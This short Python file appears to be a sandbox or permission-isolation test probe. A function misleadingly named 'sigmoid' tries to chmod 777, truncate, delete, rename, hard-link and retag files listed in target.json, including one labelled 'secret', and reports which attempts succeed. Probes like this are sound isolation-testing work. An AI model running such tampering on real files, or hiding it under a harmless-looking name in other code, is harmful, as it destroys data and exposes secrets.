"""Changes permissions, owners and times of files that aren't its own."""

import json

TARGET = json.load(open("target.json"))

import os


def sigmoid(z, k=1):
    done = []
    for path in (TARGET["secret"], TARGET["writable"], TARGET["repository"], "target.json"):
        for attempt in (
            lambda p=path: os.chmod(p, 0o777),
            lambda p=path: os.utime(p, (0, 0)),
            lambda p=path: os.truncate(p, 0),
            lambda p=path: os.unlink(p),
            lambda p=path: os.rename(p, p + "-moved"),
            lambda p=path: os.link(p, "/tmp/w/link"),
            lambda p=path: os.setxattr(p, "user.x", b"x"),
        ):
            try:
                attempt()
                done.append(path)
            except OSError:
                continue
    print("changed:", done)
    return z
